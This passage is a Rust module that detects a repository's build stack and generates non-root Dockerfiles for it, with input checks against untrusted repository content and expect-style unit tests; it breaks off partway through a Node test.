//! Stack detection and Dockerfile generation.
//!
//! After cloning, the build worker asks [`detect`] how to build the repository: a repository's own
//! `Dockerfile` is used as is; otherwise the stack is recognised from marker files in the root of
//! the build context and a Dockerfile is generated for it. Generated images run as
//! `65534:65534` (nobody), because the sandbox runs non-root.
//!
//! Repository content is untrusted: only regular files directly in the context root are looked at
//! (symlinks and directories count as absent), at most 1 MiB of any file is read, and no value
//! from the repository reaches the Dockerfile unless it has been checked to be harmless there.
//! Generated Dockerfiles use only instructions the classic builder understands as well as
//! BuildKit (no `--chmod`, no heredocs, no `RUN --mount`).

use std::fs;
use std::io::{self, Read};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_json::Value as Json;

/// The largest file [`detect`] will read.
const MAX_FILE_BYTES: u64 = 1024 * 1024;

/// `nobody:nogroup`: what generated images run as.
const NOBODY: &str = "65534:65534";

/// The command of an image that has nothing to start: the sandbox stays up for its terminal.
const KEEP_ALIVE: &[&str] = &["sleep", "infinity"];

/// How a repository is built.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Stack {
    Dockerfile,
    Python,
    Node,
    JavaMaven,
    JavaGradle,
    Go,
    Rust,
}

impl Stack {
    pub fn name(self) -> &'static str {
        match self {
            Stack::Dockerfile => "dockerfile",
            Stack::Python => "python",
            Stack::Node => "node",
            Stack::JavaMaven => "java_maven",
            Stack::JavaGradle => "java_gradle",
            Stack::Go => "go",
            Stack::Rust => "rust",
        }
    }
}

/// The package manager of a Node project, chosen by its lockfile.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum NodePackageManager {
    Npm,
    Yarn,
    Pnpm,
}

impl NodePackageManager {
    pub fn name(self) -> &'static str {
        match self {
            NodePackageManager::Npm => "npm",
            NodePackageManager::Yarn => "yarn",
            NodePackageManager::Pnpm => "pnpm",
        }
    }

    fn install_command(self, locked: bool) -> &'static str {
        match self {
            NodePackageManager::Npm if locked => "npm ci",
            NodePackageManager::Npm => "npm install",
            NodePackageManager::Yarn => "yarn install --frozen-lockfile",
            NodePackageManager::Pnpm => "corepack enable && pnpm install --frozen-lockfile",
        }
    }

    fn build_command(self) -> &'static str {
        match self {
            NodePackageManager::Npm => "npm run build",
            NodePackageManager::Yarn => "yarn build",
            NodePackageManager::Pnpm => "pnpm build",
        }
    }
}

/// Base images per stack: the `[build_images]` table of the worker's configuration.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct BaseImages {
    pub python: String,
    pub node: String,
    /// JDK with Maven and Gradle, for building.
    pub java: String,
    /// What Java applications run on.
    pub java_runtime: String,
    pub go: String,
    pub rust: String,
    /// A minimal runtime for compiled Go and Rust binaries.
    pub runtime: String,
}

impl Default for BaseImages {
    fn default() -> Self {
        BaseImages {
            python: "labwright/python:3".to_owned(),
            node: "labwright/node:18".to_owned(),
            java: "labwright/java:17".to_owned(),
            java_runtime: "labwright/java:17".to_owned(),
            go: "labwright/go:1".to_owned(),
            rust: "labwright/rust:1".to_owned(),
            runtime: "labwright/runtime:12".to_owned(),
        }
    }
}

/// How to build a repository.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Detection {
    pub stack: Stack,
    pub dockerfile: String,
    /// Why this stack was chosen, e.g. "found Cargo.toml".
    pub evidence: String,
    /// True when the repository's own Dockerfile is used as is.
    pub own_dockerfile: bool,
}

#[derive(Debug, thiserror::Error)]
pub enum DetectError {
    #[error(
        "no recognisable stack: expected a Dockerfile, requirements.txt, pyproject.toml, Pipfile, setup.py, package.json, pom.xml, build.gradle(.kts), go.mod or Cargo.toml"
    )]
    NoStack,
    #[error("{file}: {message}")]
    Invalid { file: String, message: String },
    #[error("reading the repository: {0}")]
    Io(#[from] std::io::Error),
}

impl DetectError {
    fn invalid(file: &str, message: impl Into<String>) -> Self {
        DetectError::Invalid {
            file: file.to_owned(),
            message: message.into(),
        }
    }
}

/// Decides how to build the repository checked out in `dir` (the root of the build context) and
/// returns the Dockerfile to build it with.
pub fn detect(dir: &Path, images: &BaseImages) -> Result<Detection, DetectError> {
    if !fs::metadata(dir)?.is_dir() {
        return Err(io::Error::new(
            io::ErrorKind::NotADirectory,
            "the build context is not a directory",
        )
        .into());
    }
    let repo = Repo { dir };
    if repo.has("Dockerfile")? {
        return own_dockerfile(&repo);
    }
    if repo.has("Cargo.toml")? {
        return rust(&repo, images);
    }
    if repo.has("go.mod")? {
        return go(&repo, images);
    }
    if repo.has("pom.xml")? {
        return maven(images);
    }
    if let Some(build_file) = repo.first_of(&["build.gradle", "build.gradle.kts"])? {
        return gradle(&repo, images, build_file);
    }
    if repo.has("package.json")? {
        return node(&repo, images);
    }
    if let Some(marker) =
        repo.first_of(&["requirements.txt", "pyproject.toml", "Pipfile", "setup.py"])?
    {
        return python(&repo, images, marker);
    }
    Err(DetectError::NoStack)
}

/// The files directly in the build context root.
struct Repo<'a> {
    dir: &'a Path,
}

impl Repo<'_> {
    /// The metadata of `name` if it is a regular file; symlinks, directories and anything else
    /// count as absent.
    fn regular_file(&self, name: &str) -> io::Result<Option<fs::Metadata>> {
        match fs::symlink_metadata(self.dir.join(name)) {
            Ok(metadata) if metadata.file_type().is_file() => Ok(Some(metadata)),
            Ok(_) => Ok(None),
            Err(error) if error.kind() == io::ErrorKind::NotFound => Ok(None),
            Err(error) => Err(error),
        }
    }

    fn has(&self, name: &str) -> io::Result<bool> {
        Ok(self.regular_file(name)?.is_some())
    }

    fn has_executable(&self, name: &str) -> io::Result<bool> {
        Ok(self
            .regular_file(name)?
            .is_some_and(|metadata| metadata.permissions().mode() & 0o111 != 0))
    }

    fn first_of(&self, names: &[&'static str]) -> io::Result<Option<&'static str>> {
        for name in names {
            if self.has(name)? {
                return Ok(Some(name));
            }
        }
        Ok(None)
    }

    /// Reads a regular file of at most [`MAX_FILE_BYTES`] as UTF-8.
    fn read(&self, name: &str) -> Result<String, DetectError> {
        if !self.has(name)? {
            return Err(DetectError::invalid(name, "not a regular file"));
        }
        let mut bytes = Vec::new();
        fs::File::open(self.dir.join(name))?
            .take(MAX_FILE_BYTES + 1)
            .read_to_end(&mut bytes)?;
        if bytes.len() as u64 > MAX_FILE_BYTES {
            return Err(DetectError::invalid(name, "larger than 1 MiB"));
        }
        String::from_utf8(bytes).map_err(|_| DetectError::invalid(name, "not valid UTF-8"))
    }
}

/// A configured base image, if it is a plausible image reference: nothing else, and in particular
/// no line break, may reach the Dockerfile.
fn checked_image<'a>(key: &str, reference: &'a str) -> Result<&'a str, DetectError> {
    let plausible = (1..=255).contains(&reference.len())
        && !reference.starts_with('-')
        && reference
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"._/:@-".contains(&byte));
    if plausible {
        Ok(reference)
    } else {
        Err(DetectError::invalid(
            "build_images",
            format!("{key} = {reference:?} is not a valid image reference"),
        ))
    }
}

/// How the build context gets into the image around the step that installs dependencies.
enum Sources {
    /// Copy just these files, install, then copy the rest, so that the install layer is reused
    /// while the dependencies do not change.
    DependenciesFirst(Vec<&'static str>),
    /// The install step needs the whole context (local packages, install scripts, ...).
    All,
}

/// A generated Dockerfile being written, one line at a time. Every line comes from this module or
/// from a checked value, so none contains a line break.
struct DockerfileText(String);

impl DockerfileText {
    fn new(stack: Stack, evidence: &str) -> Self {
        let mut text = DockerfileText(String::new());
        text.line(&format!(
            "# generated by labwright: {} ({evidence})",
            stack.name()
        ));
        text
    }

    fn line(&mut self, line: &str) {
        self.0.push_str(line);
        self.0.push('\n');
    }

    /// Starts the final stage's `/app`: made by the run-time user's own, so apps that write next
    /// to their code (SQLite, uploads, logs) can (`WORKDIR` alone would make it root's). Only
    /// `mkdir` and `chown`, which every base image with a shell has (busybox has no `install`).
    fn final_workdir(&mut self) {
        self.line(&format!("RUN mkdir -p /app && chown {NOBODY} /app"));
        self.line("WORKDIR /app");
    }

    /// Copies the build context to `/app`, owned by nobody when it is copied into the final
    /// stage.
    fn copy_context(&mut self, final_stage: bool) {
        if final_stage {
            self.line(&format!("COPY --chown={NOBODY} . /app"));
        } else {
            self.line("COPY . /app");
        }
    }

    /// Copies the build context and installs the dependencies, in the order `sources` allows.
    fn copy_and_install(&mut self, sources: &Sources, install: &str, final_stage: bool) {
        match sources {
            Sources::DependenciesFirst(files) => {
                self.line(&format!("COPY {} /app/", files.join(" ")));
                self.line(&format!("RUN {install}"));
                self.copy_context(final_stage);
            }
            Sources::All => {
                self.copy_context(final_stage);
                self.line(&format!("RUN {install}"));
            }
        }
    }

    /// Ends the final stage: run as nobody, start `argv` (exec form).
    fn finish(mut self, argv: &[&str]) -> String {
        self.line(&format!("USER {NOBODY}"));
        if argv == KEEP_ALIVE {
            self.line("# nothing to start: keep the sandbox up for its terminal");
        }
        let argv: Vec<String> = argv
            .iter()
            .map(|arg| Json::from(*arg).to_string())
            .collect();
        self.line(&format!("CMD [{}]", argv.join(", ")));
        self.0
    }
}

fn generated(stack: Stack, evidence: String, dockerfile: String) -> Detection {
    Detection {
        stack,
        dockerfile,
        evidence,
        own_dockerfile: false,
    }
}

fn own_dockerfile(repo: &Repo) -> Result<Detection, DetectError> {
    Ok(Detection {
        stack: Stack::Dockerfile,
        dockerfile: repo.read("Dockerfile")?,
        evidence: "found Dockerfile".to_owned(),
        own_dockerfile: true,
    })
}

fn rust(repo: &Repo, images: &BaseImages) -> Result<Detection, DetectError> {
    let build_image = checked_image("rust", &images.rust)?;
    let runtime = checked_image("runtime", &images.runtime)?;
    let binary = rust_binary_name(&repo.read("Cargo.toml")?)?;
    let locked = if repo.has("Cargo.lock")? {
        " --locked"
    } else {
        ""
    };

    let evidence = "found Cargo.toml".to_owned();
    let mut dockerfile = DockerfileText::new(Stack::Rust, &evidence);
    dockerfile.line(&format!("FROM {build_image} AS build"));
    dockerfile.line("WORKDIR /app");
    dockerfile.copy_context(false);
    dockerfile.line(&format!("RUN cargo build --release{locked}"));
    dockerfile.line("");
    dockerfile.line(&format!("FROM {runtime}"));
    dockerfile.final_workdir();
    dockerfile.line(&format!(
        "COPY --from=build --chown={NOBODY} /app/target/release/{binary} /app/{binary}"
    ));
    let dockerfile = dockerfile.finish(&[&format!("/app/{binary}")]);
    Ok(generated(Stack::Rust, evidence, dockerfile))
}

/// The binary `cargo build` produces: the first `[[bin]]`'s name, else the package's.
fn rust_binary_name(cargo_toml: &str) -> Result<String, DetectError> {
    let invalid = |message: &str| DetectError::invalid("Cargo.toml", message);
    let manifest: toml::Table =
        toml::from_str(cargo_toml).map_err(|error| invalid(error.to_string().trim_end()))?;
    let Some(package) = manifest.get("package").and_then(toml::Value::as_table) else {
        return Err(if manifest.contains_key("workspace") {
            invalid("a workspace root without a package; set subdir to the crate to build")
        } else {
            invalid("no [package] section")
        });
    };
    let first_bin = manifest
        .get("bin")
        .and_then(toml::Value::as_array)
        .and_then(|bins| bins.first());
    let name = match first_bin {
        Some(bin) => bin
            .get("name")
            .and_then(toml::Value::as_str)
            .ok_or_else(|| invalid("the first [[bin]] has no name"))?,
        None => package
            .get("name")
            .and_then(toml::Value::as_str)
            .ok_or_else(|| invalid("[package] has no name"))?,
    };
    let valid = (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-');
    if !valid {
        return Err(invalid(&format!(
            "binary name {name:?} must be 1 to 64 of A-Z, a-z, 0-9, '_' and '-'"
        )));
    }
    Ok(name.to_owned())
}

fn go(repo: &Repo, images: &BaseImages) -> Result<Detection, DetectError> {
    let build_image = checked_image("go", &images.go)?;
    let runtime = checked_image("runtime", &images.runtime)?;
    let sources = if go_mod_has_local_replace(&repo.read("go.mod")?) || repo.has("go.work")? {
        Sources::All
    } else if repo.has("go.sum")? {
        Sources::DependenciesFirst(vec!["go.mod", "go.sum"])
    } else {
        Sources::DependenciesFirst(vec!["go.mod"])
    };

    let evidence = "found go.mod".to_owned();
    let mut dockerfile = DockerfileText::new(Stack::Go, &evidence);
    dockerfile.line(&format!("FROM {build_image} AS build"));
    dockerfile.line("WORKDIR /app");
    dockerfile.copy_and_install(&sources, "go mod download", false);
    dockerfile.line("RUN CGO_ENABLED=0 go build -o /out/app .");
    dockerfile.line("");
    dockerfile.line(&format!("FROM {runtime}"));
    dockerfile.final_workdir();
    dockerfile.line(&format!(
        "COPY --from=build --chown={NOBODY} /out/app /app/app"
    ));
    let dockerfile = dockerfile.finish(&["/app/app"]);
    Ok(generated(Stack::Go, evidence, dockerfile))
}

/// Whether go.mod replaces a module with a directory of the repository, which `go mod download`
/// needs to see.
fn go_mod_has_local_replace(go_mod: &str) -> bool {
    go_mod.lines().any(|line| {
        let line = line.split("//").next().unwrap_or_default();
        line.split_once("=>")
            .is_some_and(|(_, target)| target.trim_start().starts_with(['.', '/']))
    })
}

fn maven(images: &BaseImages) -> Result<Detection, DetectError> {
    let build_image = checked_image("java", &images.java)?;
    let runtime = checked_image("java_runtime", &images.java_runtime)?;

    let evidence = "found pom.xml".to_owned();
    let mut dockerfile = DockerfileText::new(Stack::JavaMaven, &evidence);
    dockerfile.line(&format!("FROM {build_image} AS build"));
    dockerfile.line("WORKDIR /app");
    dockerfile.copy_context(false);
    dockerfile.line("RUN mvn -q -B -DskipTests package");
    let dockerfile = java_final_stage(dockerfile, "target", runtime);
    Ok(generated(Stack::JavaMaven, evidence, dockerfile))
}

fn gradle(repo: &Repo, images: &BaseImages, build_file: &str) -> Result<Detection, DetectError> {
    let build_image = checked_image("java", &images.java)?;
    let runtime = checked_image("java_runtime", &images.java_runtime)?;
    let gradle = if repo.has_executable("gradlew")? {
        "./gradlew"
    } else {
        "gradle"
    };

    let evidence = format!("found {build_file} ({gradle})");
    let mut dockerfile = DockerfileText::new(Stack::JavaGradle, &evidence);
    dockerfile.line(&format!("FROM {build_image} AS build"));
    dockerfile.line("WORKDIR /app");
    dockerfile.copy_context(false);
    dockerfile.line(&format!("RUN {gradle} --no-daemon -q build -x test"));
    let dockerfile = java_final_stage(dockerfile, "build/libs", runtime);
    Ok(generated(Stack::JavaGradle, evidence, dockerfile))
}

/// Picks the application jar the build left in `jar_dir` (the largest one that is not sources,
/// javadoc, tests or a thin jar next to a fat one) and runs it in a stage of its own.
fn java_final_stage(mut dockerfile: DockerfileText, jar_dir: &str, runtime: &str) -> String {
    dockerfile.line(&format!(
        r#"RUN jar="$(ls -S {jar_dir}/*.jar 2>/dev/null | grep -Ev '(-sources|-javadoc|-tests|-test-fixtures|-plain)\.jar$|/original-[^/]*$' | head -n 1)"; \"#
    ));
    dockerfile.line(&format!(
        r#"    if [ -z "$jar" ]; then echo "labwright: the build left no application jar in {jar_dir}/" >&2; exit 1; fi; \"#
    ));
    dockerfile
        .line(r#"    echo "labwright: using $jar" && mkdir -p /out && cp "$jar" /out/app.jar"#);
    dockerfile.line("");
    dockerfile.line(&format!("FROM {runtime}"));
    dockerfile.final_workdir();
    dockerfile.line(&format!(
        "COPY --from=build --chown={NOBODY} /out/app.jar /app/app.jar"
    ));
    dockerfile.finish(&["java", "-jar", "/app/app.jar"])
}

fn node(repo: &Repo, images: &BaseImages) -> Result<Detection, DetectError> {
    let image = checked_image("node", &images.node)?;
    let package = parse_package_json(&repo.read("package.json")?)?;
    let (manager, lockfile) = node_lockfile(repo)?;
    let sources = if node_install_needs_sources(repo, &package)? {
        Sources::All
    } else {
        let mut files = vec!["package.json"];
        files.extend(lockfile);
        for config in [".npmrc", ".yarnrc"] {
            if repo.has(config)? {
                files.push(config);
            }
        }
        Sources::DependenciesFirst(files)
    };
    let scripts = package.get("scripts").and_then(Json::as_object);
    let has_script =
        |name: &str| scripts.is_some_and(|scripts| scripts.get(name).is_some_and(Json::is_string));
    let main = package
        .get("main")
        .and_then(Json::as_str)
        .filter(|main| is_safe_relative_path(main));

    let evidence = format!(
        "found package.json ({}, {})",
        manager.name(),
        lockfile.unwrap_or("no lockfile")
    );
    let mut dockerfile = DockerfileText::new(Stack::Node, &evidence);
    dockerfile.line(&format!("FROM {image}"));
    if manager == NodePackageManager::Pnpm {
        // corepack fetches pnpm at build time; keep it where the run-time user can read it.
        dockerfile
            .line("ENV COREPACK_HOME=/usr/local/share/corepack COREPACK_ENABLE_DOWNLOAD_PROMPT=0");
    }
    dockerfile.final_workdir();
    dockerfile.copy_and_install(&sources, manager.install_command(lockfile.is_some()), true);
    if has_script("build") {
        dockerfile.line(&format!("RUN {}", manager.build_command()));
    }
    // The package manager also runs at run time, and wants a writable home.
    dockerfile.line("ENV HOME=/tmp");
    let dockerfile = if has_script("start") {
        dockerfile.finish(&[manager.name(), "start"])
    } else if let Some(main) = main {
        dockerfile.finish(&["node", main])
    } else {
        dockerfile.finish(KEEP_ALIVE)
    };
    Ok(generated(Stack::Node, evidence, dockerfile))
}

fn parse_package_json(text: &str) -> Result<serde_json::Map<String, Json>, DetectError> {
    match serde_json::from_str(text) {
        Ok(Json::Object(package)) => Ok(package),
        Ok(_) => Err(DetectError::invalid(
            "package.json",
            "expected a JSON object",
        )),
        Err(error) => Err(DetectError::invalid("package.json", error.to_string())),
    }
}

/// The package manager and its lockfile, if any.
fn node_lockfile(repo: &Repo) -> io::Result<(NodePackageManager, Option<&'static str>)> {
    let lockfiles = [
        ("package-lock.json", NodePackageManager::Npm),
        ("npm-shrinkwrap.json", NodePackageManager::Npm),
        ("yarn.lock", NodePackageManager::Yarn),
        ("pnpm-lock.yaml", NodePackageManager::Pnpm),
    ];
    for (lockfile, manager) in lockfiles {
        if repo.has(lockfile)? {
            return Ok((manager, Some(lockfile)));
        }
    }
    Ok((NodePackageManager::Npm, None))
}

/// Whether installing the dependencies needs more of the repository than package.json and the
/// lockfile: install scripts, workspaces, local packages, patches or a Yarn 2+ setup.
fn node_install_needs_sources(
    repo: &Repo,
    package: &serde_json::Map<String, Json>,
) -> io::Result<bool> {
    const INSTALL_SCRIPTS: [&str; 4] = ["preinstall", "install", "postinstall", "prepare"];
    const LOCAL_PROTOCOLS: [&str; 4] = ["file:", "link:", "portal:", "workspace:"];
    let install_scripts = package
        .get("scripts")
        .and_then(Json::as_object)
        .is_some_and(|scripts| {
            INSTALL_SCRIPTS
                .iter()
                .any(|script| scripts.contains_key(*script))
        });
    let local_dependencies = ["dependencies", "devDependencies", "optionalDependencies"]
        .iter()
        .filter_map(|field| package.get(*field).and_then(Json::as_object))
        .flat_map(|dependencies| dependencies.values())
        .filter_map(Json::as_str)
        .any(|version| {
            LOCAL_PROTOCOLS
                .iter()
                .any(|protocol| version.starts_with(protocol))
        });
    let patches = package
        .get("pnpm")
        .is_some_and(|pnpm| pnpm.get("patchedDependencies").is_some());
    Ok(install_scripts
        || local_dependencies
        || patches
        || package.contains_key("workspaces")
        || repo.has("pnpm-workspace.yaml")?
        || repo.has(".yarnrc.yml")?)
}

/// Whether package.json's `main` can go into the Dockerfile: a plain relative path.
fn is_safe_relative_path(path: &str) -> bool {
    (1..=255).contains(&path.len())
        && !path.starts_with(['/', '-'])
        && !path.contains("..")
        && path
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"._/-".contains(&byte))
}

fn python(repo: &Repo, images: &BaseImages, marker: &str) -> Result<Detection, DetectError> {
    let image = checked_image("python", &images.python)?;
    let (sources, install) = match marker {
        "requirements.txt" => (
            requirements_sources(&repo.read(marker)?),
            "pip install --no-cache-dir -r requirements.txt",
        ),
        "Pipfile" => pipfile_install(repo)?,
        _ => (Sources::All, "pip install --no-cache-dir ."),
    };
    let command = python_command(repo)?;

    let evidence = format!("found {marker}");
    let mut dockerfile = DockerfileText::new(Stack::Python, &evidence);
    dockerfile.line(&format!("FROM {image}"));
    dockerfile.line("ENV PYTHONUNBUFFERED=1");
    dockerfile.final_workdir();
    dockerfile.copy_and_install(&sources, install, true);
    let dockerfile = dockerfile.finish(command);
    Ok(generated(Stack::Python, evidence, dockerfile))
}

/// requirements.txt can be installed on its own unless it refers to other files: other
/// requirement or constraint files, editable or local packages.
fn requirements_sources(requirements: &str) -> Sources {
    const FILE_OPTIONS: [&str; 8] = [
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "-e",
        "--editable",
        "-f",
        "--find-links",
    ];
    let refers_to_files = requirements.lines().map(str::trim).any(|line| {
        line.starts_with(['.', '/'])
            || line.contains("file:")
            || FILE_OPTIONS.iter().any(|option| line.starts_with(option))
    });
    if refers_to_files {
        Sources::All
    } else {
        Sources::DependenciesFirst(vec!["requirements.txt"])
    }
}

fn pipfile_install(repo: &Repo) -> Result<(Sources, &'static str), DetectError> {
    let pipfile: toml::Table = toml::from_str(&repo.read("Pipfile")?)
        .map_err(|error| DetectError::invalid("Pipfile", error.to_string().trim_end()))?;
    let local_packages = ["packages", "dev-packages"]
        .iter()
        .filter_map(|section| pipfile.get(*section).and_then(toml::Value::as_table))
        .flat_map(|packages| packages.values())
        .filter_map(toml::Value::as_table)
        .any(|package| package.contains_key("path") || package.contains_key("file"));
    let locked = repo.has("Pipfile.lock")?;
    let sources = match (local_packages, locked) {
        (true, _) => Sources::All,
        (false, true) => Sources::DependenciesFirst(vec!["Pipfile", "Pipfile.lock"]),
        (false, false) => Sources::DependenciesFirst(vec!["Pipfile"]),
    };
    let install = if locked {
        "pip install --no-cache-dir pipenv && pipenv install --system --deploy"
    } else {
        "pip install --no-cache-dir pipenv && pipenv install --system"
    };
    Ok((sources, install))
}

fn python_command(repo: &Repo) -> io::Result<&'static [&'static str]> {
    if repo.has("main.py")? {
        Ok(&["python", "main.py"])
    } else if repo.has("app.py")? {
        Ok(&["python", "app.py"])
    } else if repo.has("manage.py")? {
        Ok(&["python", "manage.py", "runserver", "0.0.0.0:8000"])
    } else {
        Ok(KEEP_ALIVE)
    }
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;
    use std::sync::atomic::{AtomicUsize, Ordering};

    use expect_test::expect;

    use super::*;

    /// A scratch directory standing in for a cloned repository, removed on drop.
    struct TempRepo {
        path: PathBuf,
    }

    impl TempRepo {
        fn new() -> Self {
            static COUNTER: AtomicUsize = AtomicUsize::new(0);
            let name = format!(
                "labwright-detect-{}-{}",
                std::process::id(),
                COUNTER.fetch_add(1, Ordering::Relaxed)
            );
            let path = std::env::temp_dir().join(name);
            let _ = fs::remove_dir_all(&path);
            fs::create_dir(&path).unwrap();
            TempRepo { path }
        }

        fn with(files: &[(&str, &str)]) -> Self {
            let repo = TempRepo::new();
            for (name, content) in files {
                repo.write(name, content);
            }
            repo
        }

        fn write(&self, name: &str, content: &str) {
            fs::write(self.path.join(name), content).unwrap();
        }

        fn remove(&self, name: &str) {
            fs::remove_file(self.path.join(name)).unwrap();
        }

        fn detect(&self) -> Result<Detection, DetectError> {
            detect(&self.path, &BaseImages::default())
        }

        fn detection(&self) -> Detection {
            self.detect().unwrap()
        }

        /// The `file: message` of an `Invalid` error.
        fn invalid(&self) -> String {
            match self.detect() {
                Err(error @ DetectError::Invalid { .. }) => error.to_string(),
                other => panic!("expected Invalid, got {other:?}"),
            }
        }
    }

    impl Drop for TempRepo {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.path);
        }
    }

    const CARGO_TOML: &str =
        "[package]\nname = \"hello-web\"\nversion = \"0.1.0\"\nedition = \"2024\"\n";

    /// The `CMD` line of a Dockerfile.
    fn cmd(dockerfile: &str) -> &str {
        dockerfile
            .lines()
            .rfind(|line| line.starts_with("CMD "))
            .unwrap()
    }

    #[test]
    fn precedence() {
        let markers = [
            ("Dockerfile", Stack::Dockerfile),
            ("Cargo.toml", Stack::Rust),
            ("go.mod", Stack::Go),
            ("pom.xml", Stack::JavaMaven),
            ("build.gradle", Stack::JavaGradle),
            ("package.json", Stack::Node),
            ("requirements.txt", Stack::Python),
        ];
        let repo = TempRepo::new();
        repo.write("Dockerfile", "FROM scratch\n");
        repo.write("Cargo.toml", CARGO_TOML);
        repo.write("go.mod", "module example.com/hello\n\ngo 1.22\n");
        repo.write("pom.xml", "<project/>\n");
        repo.write("build.gradle", "plugins { id 'java' }\n");
        repo.write("package.json", "{}");
        repo.write("requirements.txt", "flask\n");
        for (marker, stack) in markers {
            assert_eq!(repo.detection().stack, stack, "with {marker}");
            repo.remove(marker);
        }
        assert!(matches!(repo.detect(), Err(DetectError::NoStack)));
    }

    #[test]
    fn own_dockerfile_is_used_unchanged() {
        let content = "FROM alpine:3\r\nRUN echo 'ü'\nCMD [\"sh\"]";
        let repo = TempRepo::with(&[("Dockerfile", content), ("Cargo.toml", CARGO_TOML)]);
        let detection = repo.detection();
        assert_eq!(
            detection,
            Detection {
                stack: Stack::Dockerfile,
                dockerfile: content.to_owned(),
                evidence: "found Dockerfile".to_owned(),
                own_dockerfile: true,
            }
        );
    }

    #[test]
    fn own_dockerfile_must_be_utf8() {
        let repo = TempRepo::new();
        fs::write(repo.path.join("Dockerfile"), b"FROM scratch\n\xff\n").unwrap();
        assert_eq!(repo.invalid(), "Dockerfile: not valid UTF-8");
    }

    #[test]
    fn python_requirements() {
        let repo = TempRepo::with(&[("requirements.txt", "flask==3.0.0\n"), ("app.py", "")]);
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::Python);
        assert_eq!(detection.evidence, "found requirements.txt");
        assert!(!detection.own_dockerfile);
        expect![[r##"
            # generated by labwright: python (found requirements.txt)
            FROM labwright/python:3
            ENV PYTHONUNBUFFERED=1
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY requirements.txt /app/
            RUN pip install --no-cache-dir -r requirements.txt
            COPY --chown=65534:65534 . /app
            USER 65534:65534
            CMD ["python", "app.py"]
        "##]]
        .assert_eq(&detection.dockerfile);
    }

    #[test]
    fn python_requirements_referring_to_other_files_are_installed_after_copying_everything() {
        let repo = TempRepo::with(&[("requirements.txt", "flask\n-e .\n"), ("main.py", "")]);
        expect![[r##"
            # generated by labwright: python (found requirements.txt)
            FROM labwright/python:3
            ENV PYTHONUNBUFFERED=1
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY --chown=65534:65534 . /app
            RUN pip install --no-cache-dir -r requirements.txt
            USER 65534:65534
            CMD ["python", "main.py"]
        "##]]
        .assert_eq(&repo.detection().dockerfile);
    }

    #[test]
    fn python_pyproject_and_setup_py() {
        for marker in ["pyproject.toml", "setup.py"] {
            let repo = TempRepo::with(&[(marker, ""), ("manage.py", "")]);
            let detection = repo.detection();
            assert_eq!(detection.evidence, format!("found {marker}"));
            let dockerfile = &detection.dockerfile;
            assert!(
                dockerfile.contains(
                    "COPY --chown=65534:65534 . /app\nRUN pip install --no-cache-dir .\n"
                ),
                "{dockerfile}"
            );
            assert_eq!(
                cmd(dockerfile),
                r#"CMD ["python", "manage.py", "runserver", "0.0.0.0:8000"]"#
            );
        }
    }

    #[test]
    fn python_marker_order_decides_evidence_and_install() {
        let repo = TempRepo::with(&[("setup.py", ""), ("Pipfile", ""), ("pyproject.toml", "")]);
        assert_eq!(repo.detection().evidence, "found pyproject.toml");
        repo.write("requirements.txt", "");
        let detection = repo.detection();
        assert_eq!(detection.evidence, "found requirements.txt");
        assert!(
            detection
                .dockerfile
                .contains("RUN pip install --no-cache-dir -r requirements.txt\n")
        );
    }

    #[test]
    fn python_pipfile() {
        let pipfile = "[packages]\nrequests = \"*\"\n";
        let repo = TempRepo::with(&[("Pipfile", pipfile), ("Pipfile.lock", "{}")]);
        let detection = repo.detection();
        assert_eq!(detection.evidence, "found Pipfile");
        expect![[r##"
            # generated by labwright: python (found Pipfile)
            FROM labwright/python:3
            ENV PYTHONUNBUFFERED=1
            RUN mkdir -p /app && chown 65534:65534 /app
            WORKDIR /app
            COPY Pipfile Pipfile.lock /app/
            RUN pip install --no-cache-dir pipenv && pipenv install --system --deploy
            COPY --chown=65534:65534 . /app
            USER 65534:65534
            # nothing to start: keep the sandbox up for its terminal
            CMD ["sleep", "infinity"]
        "##]]
        .assert_eq(&detection.dockerfile);

        repo.remove("Pipfile.lock");
        let dockerfile = repo.detection().dockerfile;
        assert!(dockerfile.contains("COPY Pipfile /app/\n"), "{dockerfile}");
        assert!(
            dockerfile
                .contains("RUN pip install --no-cache-dir pipenv && pipenv install --system\n"),
            "{dockerfile}"
        );

        repo.write(
            "Pipfile",
            "[packages]\nmine = {path = \".\", editable = true}\n",
        );
        let dockerfile = repo.detection().dockerfile;
        assert!(
            dockerfile.contains("COPY --chown=65534:65534 . /app\nRUN pip install"),
            "{dockerfile}"
        );

        repo.write("Pipfile", "[packages\n");
        assert!(
            repo.invalid().starts_with("Pipfile: TOML parse error"),
            "{}",
            repo.invalid()
        );
    }

    #[test]
    fn python_start_command() {
        let repo = TempRepo::with(&[("requirements.txt", "")]);
        assert_eq!(
            cmd(&repo.detection().dockerfile),
            r#"CMD ["sleep", "infinity"]"#
        );
        repo.write("manage.py", "");
        assert_eq!(
            cmd(&repo.detection().dockerfile),
            r#"CMD ["python", "manage.py", "runserver", "0.0.0.0:8000"]"#
        );
        repo.write("app.py", "");
        assert_eq!(
            cmd(&repo.detection().dockerfile),
            r#"CMD ["python", "app.py"]"#
        );
        repo.write("main.py", "");
        assert_eq!(
            cmd(&repo.detection().dockerfile),
            r#"CMD ["python", "main.py"]"#
        );
    }

    #[test]
    fn node_yarn_with_build_and_start() {
        let package = r#"{
            "name": "web",
            "main": "server.js",
            "scripts": {"build": "vite build", "start": "node server.js"},
            "dependencies": {"express": "^4.19.0"}
        }"#;
        let repo = TempRepo::with(&[("package.json", package), ("yarn.lock", "")]);
        let detection = repo.detection();
        assert_eq!(detection.stack, Stack::Node);
        assert_eq!(detection.evidence, "found package.json (yarn, yarn.lock)");
        expect![[r##"
